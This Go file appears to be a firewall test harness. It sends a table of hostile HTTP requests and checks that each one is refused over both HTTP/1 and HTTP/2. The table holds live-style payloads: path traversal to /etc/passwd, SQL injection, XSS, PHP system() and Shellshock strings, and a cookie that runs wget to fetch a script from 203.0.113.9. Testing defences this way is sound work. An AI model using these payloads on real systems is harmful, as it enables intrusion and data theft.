package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// hostile are requests that the firewall has to refuse before the service sees them.
var hostile = map[string]request{
	"traversal in the path":        {http.MethodGet, "/msg/../../../../etc/passwd", nil, ""},
	"encoded traversal":            {http.MethodGet, "/msg/..%2f..%2f..%2fetc%2fpasswd", nil, ""},
	"a dotfile":                    {http.MethodGet, "/.git/config", nil, ""},
	"settings":                     {http.MethodGet, "/.env", nil, ""},
	"a backup":                     {http.MethodGet, "/backup/dump.sql", nil, ""},
	"script in the query":          {http.MethodGet, "/?x=<script>alert(1)</script>", nil, ""},
	"encoded script":               {http.MethodGet, "/?x=%3Cimg%20src=x%20onerror=alert(1)%3E", nil, ""},
	"SQL in the query":             {http.MethodGet, "/?ttl=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", nil, ""},
	"SQL in a creation's query":    {http.MethodPost, "/?ttl=1%27%20OR%20%271%27=%271", nil, `{"message": "hello"}`},
	"a command in the query":       {http.MethodGet, "/?x=;cat%20/etc/passwd", nil, ""},
	"PHP in the query":             {http.MethodGet, "/?x=%3C?php%20system(%24_GET[1]);%20?%3E", nil, ""},
	"a remote file in the query":   {http.MethodGet, "/?x=http://203.0.113.9/shell.txt?", nil, ""},
	"a name of an argument":        {http.MethodGet, "/?__proto__[x]=/etc/passwd", nil, ""},
	"shellshock":                   {http.MethodGet, "/", [][2]string{{"User-Agent", "() { :; }; /bin/cat /etc/passwd"}}, ""},
	"a scanner":                    {http.MethodGet, "/", [][2]string{{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}}, ""},
	"script in the Referer":        {http.MethodGet, "/", [][2]string{{"Referer", "https://x/<script>alert(1)</script>"}}, ""},
	"SQL in a cookie":              {http.MethodGet, "/", [][2]string{{"Cookie", "id=1' UNION SELECT password FROM users-- "}}, ""},
	"script in a cookie":           {http.MethodGet, "/", [][2]string{{"Cookie", "theme=<script>alert(1)</script>"}}, ""},
	"a command in a cookie":        {http.MethodGet, "/", [][2]string{{"Cookie", "x=$(wget http://203.0.113.9/x.sh)"}}, ""},
	"a scanner with a long cookie": {http.MethodGet, "/", [][2]string{{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}, {"Cookie", "x=" + strings.Repeat("y", 1000)}}, ""},
	"a field with a long cookie":   {http.MethodGet, "/", [][2]string{{"X-Class", "java.lang.Runtime"}, {"Cookie", "x=" + strings.Repeat("y", 1000)}}, ""},
	"the method PUT":               {http.MethodPut, "/", nil, "x"},
	"the method PATCH":             {http.MethodPatch, "/", nil, "x"},
	"the method PROPFIND":          {"PROPFIND", "/", nil, ""},
	"an unknown method":            {"JEFF", "/", nil, ""},
	"the method TRACE":             {http.MethodTrace, "/", nil, ""},
	"a type of Java objects":       {http.MethodPost, "/", [][2]string{{"Content-Type", "application/x-java-serialized-object"}}, "x"},
	"an unknown charset":           {http.MethodPost, "/", [][2]string{{"Content-Type", "text/plain; charset=utf-7"}}, "x"},
	"an encoded body":              {http.MethodPost, "/", [][2]string{{"Content-Type", "text/plain"}, {"Content-Encoding", "gzip"}}, "x"},
	"a body of a GET":              {http.MethodGet, "/", [][2]string{{"Content-Type", "text/plain"}}, "x"},
}

// attacks sends each over both protocols. The caller looks at what the service saw.
func attacks(ctx context.Context, c *client, stdout io.Writer) error {
	for name, q := range hostile {
		for _, over := range []*http.Client{c.h1, c.h2} {
			a, err := c.send(ctx, over, q)
			if err != nil {
				return fmt.Errorf("%s: %w", name, err)
			}
			if a.status < 400 || a.status >= 500 || !strings.HasPrefix(a.header.Get("Content-Type"), "application/problem+json") {
				return fmt.Errorf("%s over %s: got %d %.200s", name, a.proto, a.status, a.body)
			}
		}
	}
	_, _ = fmt.Fprintf(stdout, "%d attacks are refused over both protocols\n", len(hostile))
	return nil
}
